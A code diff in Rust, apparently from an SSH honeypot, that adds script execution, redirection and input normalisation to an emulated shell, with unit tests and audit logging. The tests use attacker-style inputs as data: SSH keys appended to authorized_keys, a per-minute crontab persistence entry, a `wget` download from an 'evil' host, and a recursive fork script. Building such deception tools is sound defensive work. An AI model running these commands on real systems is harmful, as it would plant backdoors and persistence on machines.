+            };
+
+            // positional parameters are left set once the script exits
+            for (i, arg) in std::iter::once(name)
+                .chain(args.iter().map(String::as_str))
+                .enumerate()
+            {
+                connection.set_variable(
+                    Cow::Owned(i.to_string().into_bytes()),
+                    Cow::Owned(arg.as_bytes().to_vec()),
+                );
+            }
+
+            connection.enter_script();
+
+            let result = ExecutingScript::new(statements, connection)
+                .run(connection, channel, &mut session)
+                .await;
+
+            Self::finish(result, connection)
+        })
+    }
+
+    fn finish(
+        result: CommandResult<ExecutingScript>,
+        connection: &mut ConnectionState,
+    ) -> CommandResult<Self> {
+        match result {
+            CommandResult::ReadStdin(script) => CommandResult::ReadStdin(Self(script)),
+            // `exit` only ends the script rather than the whole session
+            CommandResult::Exit(status) | CommandResult::Close(status) => {
+                connection.leave_script();
+                CommandResult::Exit(status)
+            }
+        }
+    }
+}
+
+/// `sh` and `bash`, running a script given with `-c` or read from a file.
+#[async_trait]
+impl Command for Script {
+    async fn new<S: ThrusshSession + Send>(
+        connection: &mut ConnectionState,
+        params: &[String],
+        channel: ChannelId,
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        match params {
+            [flag, command, args @ ..] if flag == "-c" => {
+                Self::start(
+                    "bash: -c",
+                    command.as_bytes(),
+                    args,
                     connection,
                     channel,
                     session,
                 )
                 .await
             }
-            CommandResult::Close(status) => CommandResult::Close(status),
+            [flag] if flag == "-c" => {
+                session.stderr(channel, "bash: -c: option requires an argument\n".into());
+                CommandResult::Exit(2)
+            }
+            [file, args @ ..] if !file.starts_with('-') => {
+                let script = match connection.file_system().read(Path::new(file)) {
+                    Ok(v) => Bytes::copy_from_slice(v),
+                    Err(e) => {
+                        session.stderr(channel, format!("bash: {file}: {e}\n").into());
+                        return CommandResult::Exit(127);
+                    }
+                };
+
+                connection.push_action(AuditLogAction::ScriptExecution(ScriptExecutionEvent {
+                    interpreter: Cow::Borrowed("sh"),
+                    source: Some(Box::from(file.as_str())),
+                    script: ByteStr::from_utf8_lossy(script.clone()),
+                    args: args.to_vec().into_boxed_slice(),
+                }));
+
+                Self::start(file, &script, args, connection, channel, session).await
+            }
+            // an interactive subshell, commands just carry on running in the current one
+            _ => CommandResult::Exit(0),
         }
     }
+
+    async fn stdin<S: ThrusshSession + Send>(
+        self,
+        connection: &mut ConnectionState,
+        channel: ChannelId,
+        data: &[u8],
+        session: &mut S,
+    ) -> CommandResult<Self> {
+        let result = self.0.stdin(connection, channel, data, session).await;
+        Self::finish(result, connection)
+    }
+
+    fn abort(self, connection: &mut ConnectionState) {
+        self.0.abort(connection);
+        connection.leave_script();
+    }
+}
+
+/// Expands a leading `~` in a path being redirected to or from.
+fn resolve_path(connection: &ConnectionState, path: &str) -> String {
+    match path.strip_prefix('~') {
+        Some(rest) if rest.is_empty() || rest.starts_with('/') => {
+            format!("{}{rest}", home_directory(connection.username()).display())
+        }
+        _ => path.to_string(),
+    }
+}
+
+/// Writes out any files the command's output was redirected to, returning the command's exit
+/// status or a failure if a file couldn't be written.
+fn finish<S: ThrusshSession>(
+    redirections: Redirections,
+    mut status: u32,
+    connection: &mut ConnectionState,
+    channel: ChannelId,
+    session: &mut S,
+) -> u32 {
+    for file in redirections.files {
+        let path = String::from_utf8_lossy(&file.path);
+        let resolved = resolve_path(connection, &path);
+
+        // the write is audited even if it fails, since the attempt is what's interesting
+        connection.record_file_write(&resolved, Bytes::from(file.content.clone()));
+
+        let fs = connection.file_system();
+        let result = if file.append {
+            fs.append(Path::new(&resolved), file.content.into())
+        } else {
+            fs.write(Path::new(&resolved), file.content.into())
+        };
+
+        if let Err(e) = result {
+            session.stderr(channel, format!("bash: {path}: {e}\n").into());
+            status = 1;
+        }
+    }
+
+    status
 }
 
 #[derive(Debug, Default)]
 enum State {
     #[default]
     Prompt,
-    Running(ExecutingCommand),
+    Running(ExecutingScript),
     Exit(u32),
     Quit(u32),
 }
+
+#[cfg(test)]
+mod test {
+    use std::{
+        path::Path,
+        sync::{Arc, Mutex},
+    };
+
+    use mockall::predicate::always;
+    use pisshoff_types::{audit::AuditLogAction, byte_str::ByteStr};
+    use test_case::test_case;
+
+    use crate::{
+        command::CommandResult,
+        config::Config,
+        server::{
+            test::{fake_channel_id, predicate::eq_string},
+            ConnectionState, MockThrusshSession, ThrusshSession,
+        },
+        subsystem::shell::{
+            normalise_input,
+            parser::{parse_script, tokenize, Iter, ParseLimits, ParsedPart, RedirectionTo},
+            split_command, ExecutingCommand, RedirectedSession, Redirections, MAX_SCRIPT_DEPTH,
+        },
+    };
+
+    async fn execute(
+        input: &str,
+        state: &mut ConnectionState,
+        session: &mut MockThrusshSession,
+    ) -> u32 {
+        let (_rest, parts) = tokenize(input.as_bytes()).unwrap();
+        let iter = Iter::new(parts.into_iter().map(ParsedPart::into_owned).collect());
+
+        match ExecutingCommand::new(iter, state, fake_channel_id(), session).await {
+            CommandResult::Exit(status) => status,
+            _ => panic!("expected command to exit"),
+        }
+    }
+
+    #[tokio::test]
+    async fn redirects_stdout_to_file() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        state
+            .file_system()
+            .mkdirall(Path::new("/root/.ssh"))
+            .unwrap();
+
+        assert_eq!(
+            execute(
+                "echo ssh-rsa AAAA a >> ~/.ssh/authorized_keys",
+                &mut state,
+                &mut session
+            )
+            .await,
+            0
+        );
+        assert_eq!(
+            execute(
+                "echo ssh-rsa BBBB b >> ~/.ssh/authorized_keys",
+                &mut state,
+                &mut session
+            )
+            .await,
+            0
+        );
+
+        assert_eq!(
+            state
+                .file_system()
+                .read(Path::new("/root/.ssh/authorized_keys"))
+                .unwrap(),
+            b"ssh-rsa AAAA a\nssh-rsa BBBB b\n"
+        );
+        assert_eq!(
+            state
+                .audit_log()
+                .events
+                .iter()
+                .filter(|e| <&str>::from(&e.action) == "authorized-key-added")
+                .count(),
+            2
+        );
+    }
+
+    const ERROR: &str = "cat: missing: No such file or directory\n";
+
+    #[test_case("cat missing", "", ERROR, None; "unredirected")]
+    #[test_case("cat missing 2>/dev/null", "", "", None; "discarded")]
+    #[test_case("cat missing 2>&1", ERROR, "", None; "to stdout")]
+    #[test_case("cat missing >/tmp/out 2>&1", "", "", Some(ERROR); "both to file")]
+    #[test_case("cat missing 2>&1 >/tmp/out", ERROR, "", Some(""); "order matters")]
+    #[test_case("echo $(cat missing)", "\n", ERROR, None; "substitution")]
+    #[test_case("echo $(cat missing 2>/dev/null)", "\n", "", None; "substitution discarded")]
+    #[tokio::test]
+    async fn redirects_stderr(input: &str, stdout: &str, stderr: &str, file: Option<&str>) {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.file_system().mkdirall(Path::new("/tmp")).unwrap();
+
+        let out = Arc::new(Mutex::new(String::new()));
+        let err = Arc::new(Mutex::new(String::new()));
+
+        let captured = out.clone();
+        session.expect_data().returning(move |_, data| {
+            captured
+                .lock()
+                .unwrap()
+                .push_str(std::str::from_utf8(&data).unwrap());
+        });
+        let captured = err.clone();
+        session.expect_stderr().returning(move |_, data| {
+            captured
+                .lock()
+                .unwrap()
+                .push_str(std::str::from_utf8(&data).unwrap());
+        });
+        session.expect_redirected().returning(|| false);
+
+        execute(input, &mut state, &mut session).await;
+
+        assert_eq!(*out.lock().unwrap(), stdout);
+        assert_eq!(*err.lock().unwrap(), stderr);
+        assert_eq!(
+            state
+                .file_system()
+                .read(Path::new("/tmp/out"))
+                .ok()
+                .map(|v| std::str::from_utf8(v).unwrap()),
+            file
+        );
+    }
+
+    #[tokio::test]
+    async fn exit_in_substitution_only_ends_subshell() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string("\n"))
+            .returning(|_, _| ());
+        session.expect_redirected().returning(|| false);
+
+        assert_eq!(execute("echo $(exit 3)", &mut state, &mut session).await, 0);
+    }
+
+    #[test_case(Redirections::default(), 1; "terminal")]
+    #[test_case(Redirections::substitution(&RedirectionTo::Stdio(2)), 0; "substitution")]
+    fn subshells_keep_channel_open(mut redirections: Redirections, times: usize) {
+        let mut session = MockThrusshSession::default();
+        session
+            .expect_exit_status()
+            .times(times)
+            .returning(|_, _| ());
+        session.expect_eof().times(times).returning(|_| ());
+        session.expect_close().times(times).returning(|_| ());
+
+        let mut sess = RedirectedSession {
+            inner: &mut session,
+            redirections: &mut redirections,
+            substitution: None,
+        };
+
+        sess.exit_status(fake_channel_id(), 3);
+        sess.eof(fake_channel_id());
+        sess.close(fake_channel_id());
+    }
+
+    #[tokio::test]
+    async fn redirect_to_missing_directory() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        session
+            .expect_stderr()
+            .once()
+            .with(
+                always(),
+                eq_string("bash: /nope/x: No such file or directory\n"),
+            )
+            .returning(|_, _| ());
+
+        assert_eq!(
+            execute("echo hi > /nope/x", &mut state, &mut session).await,
+            1
+        );
+    }
+
+    #[test_case("echo hi > \"/tmp/file name\"", "/tmp/file name"; "quoted")]
+    #[test_case("echo hi >> '/tmp/x.sh'", "/tmp/x.sh"; "single quoted append")]
+    #[test_case("echo hi > $HOME/.bashrc", "/root/.bashrc"; "variable")]
+    #[tokio::test]
+    async fn redirects_to_word(input: &str, path: &str) {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.init_environment();
+        state.file_system().mkdirall(Path::new("/tmp")).unwrap();
+        state.file_system().mkdirall(Path::new("/root")).unwrap();
+
+        assert_eq!(execute(input, &mut state, &mut session).await, 0);
+        assert_eq!(state.file_system().read(Path::new(path)).unwrap(), b"hi\n");
+    }
+
+    #[tokio::test]
+    async fn redirects_stdin_from_file() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        state.file_system().mkdirall(Path::new("/tmp")).unwrap();
+
+        state
+            .file_system()
+            .write(
+                Path::new("/tmp/in"),
+                b"* * * * * /tmp/.x/run\n".to_vec().into(),
+            )
+            .unwrap();
+
+        assert_eq!(
+            execute("crontab - < /tmp/in", &mut state, &mut session).await,
+            0
+        );
+        assert_eq!(
+            state
+                .file_system()
+                .read(Path::new("/var/spool/cron/crontabs/root"))
+                .unwrap(),
+            b"* * * * * /tmp/.x/run\n"
+        );
+
+        session
+            .expect_stderr()
+            .once()
+            .with(
+                always(),
+                eq_string("bash: missing: No such file or directory\n"),
+            )
+            .returning(|_, _| ());
+
+        assert_eq!(
+            execute("crontab - <missing", &mut state, &mut session).await,
+            1
+        );
+        assert!(state
+            .audit_log()
+            .events
+            .iter()
+            .all(|e| <&str>::from(&e.action) != "exec-command"));
+    }
+
+    #[test_case(b"echo hi\r\n", b"echo hi\n"; "crlf")]
+    #[test_case(b"echo hi\r", b"echo hi\n"; "lone cr")]
+    #[test_case(b"\xEF\xBB\xBFecho hi\n", b"echo hi\n"; "utf-8 bom")]
+    #[test_case(b"\xFF\xFEe\0c\0h\0o\0\r\0\n\0", b"echo\n"; "utf-16le bom")]
+    #[test_case(b"\xFE\xFF\0e\0c\0h\0o", b"echo"; "utf-16be bom")]
+    #[test_case(b"e\0c\0h\0o\0", b"echo"; "utf-16le without bom")]
+    #[test_case(b"echo \xFF\n", b"echo \xFF\n"; "untouched")]
+    fn normalises_input(input: &[u8], expected: &[u8]) {
+        assert_eq!(normalise_input(input).as_ref(), expected);
+    }
+
+    #[test]
+    fn splits_command_sharing_buffer() {
+        let command = ByteStr::from("wget -q 'http://evil/x y' -O x\n");
+        let args = split_command(&command).unwrap();
+
+        assert_eq!(args.as_ref(), ["wget", "-q", "http://evil/x y", "-O", "x"]);
+        assert_eq!(args[1].as_ptr(), command[5..].as_ptr());
+        assert_eq!(args[4].as_ptr(), command[29..].as_ptr());
+
+        assert!(split_command(&ByteStr::from("echo 'unterminated")).is_none());
+    }
+
+    #[test]
+    fn crlf_script_parses_like_lf() {
+        let crlf = normalise_input(b"cd /tmp\r\nif true; then\r\n  echo hi\r\nfi\r\n");
+        let lf = b"cd /tmp\nif true; then\n  echo hi\nfi\n";
+
+        let (rest, statements) = parse_script(&crlf, ParseLimits::UNLIMITED).unwrap();
+        assert!(rest.is_empty());
+        assert_eq!(
+            format!("{statements:?}"),
+            format!("{:?}", parse_script(lf, ParseLimits::UNLIMITED).unwrap().1)
+        );
+    }
+
+    #[tokio::test]
+    async fn crlf_exec_request() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string("hello\n"))
+            .returning(|_, _| ());
+        session.expect_redirected().returning(|| false);
+
+        let input = normalise_input(b"echo hello\r\n");
+        let input = std::str::from_utf8(&input).unwrap();
+
+        assert_eq!(execute(input, &mut state, &mut session).await, 0);
+    }
+
+    #[tokio::test]
+    async fn runs_script_from_file() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        state
+            .file_system()
+            .write("run.sh".as_ref(), Box::from(*b"pwd\nexit 3\npwd\n"))
+            .unwrap();
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string("/root\n"))
+            .returning(|_, _| ());
+
+        assert_eq!(execute("sh run.sh", &mut state, &mut session).await, 3);
+        assert_eq!(state.script_depth(), 0);
+        assert_eq!(
+            <&str>::from(&state.audit_log().events[0].action),
+            "script-execution"
+        );
+    }
+
+    #[tokio::test]
+    async fn runs_script_from_argument() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        session
+            .expect_data()
+            .once()
+            .with(always(), eq_string("/root\n"))
+            .returning(|_, _| ());
+
+        assert_eq!(execute("bash -c pwd", &mut state, &mut session).await, 0);
+    }
+
+    #[test_case("bash -c 'echo hi; fi'", "echo hi; fi", "unexpected token `fi' at 9"; "unexpected token")]
+    #[test_case("bash -c 'if true; then'", "if true; then", "unexpected end of file"; "unterminated")]
+    #[tokio::test]
+    async fn records_parse_errors(command: &str, input: &str, error: &str) {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+        session.expect_stderr().returning(|_, _| ());
+
+        assert_eq!(execute(command, &mut state, &mut session).await, 2);
+
+        let event = state
+            .audit_log()
+            .events
+            .iter()
+            .find_map(|e| match &e.action {
+                AuditLogAction::ShellParseError(v) => Some(v),
+                _ => None,
+            })
+            .unwrap();
+        assert_eq!(event.input, input.as_bytes());
+        assert_eq!(&*event.error, error);
+    }
+
+    #[tokio::test]
+    async fn limits_nested_loop_iterations() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock_with_config(Config {
+            max_loop_iterations: 100,
+            max_script_loop_iterations: 1000,
+            max_command_rate: 0,
+            ..Config::default()
+        });
+
+        // each outer iteration uses one of the script's iterations plus one per inner iteration,
+        // so the 10th runs out partway through its inner loop
+        session.expect_redirected().returning(|| false);
+        session
+            .expect_data()
+            .times(9 * 100 + 90)
+            .with(always(), eq_string("\n"))
+            .returning(|_, _| ());
+
+        assert_eq!(
+            execute(
+                "bash -c 'while cd; do while cd; do echo; done; done; exit 3'",
+                &mut state,
+                &mut session
+            )
+            .await,
+            3
+        );
+        assert_eq!(state.script_depth(), 0);
+    }
+
+    #[tokio::test]
+    async fn limits_script_depth() {
+        let mut session = MockThrusshSession::default();
+        let mut state = ConnectionState::mock();
+
+        state
+            .file_system()
+            .write("fork.sh".as_ref(), Box::from(*b"sh fork.sh\n"))
+            .unwrap();
+
+        session
+            .expect_stderr()
+            .once()
+            .with(
+                always(),
+                eq_string("bash: fork: retry: Resource temporarily unavailable\n"),
+            )
+            .returning(|_, _| ());
+
+        assert_eq!(execute("sh fork.sh", &mut state, &mut session).await, 254);
+        assert_eq!(state.script_depth(), 0);
+        assert_eq!(state.audit_log().events.len(), MAX_SCRIPT_DEPTH + 1);
+    }
+}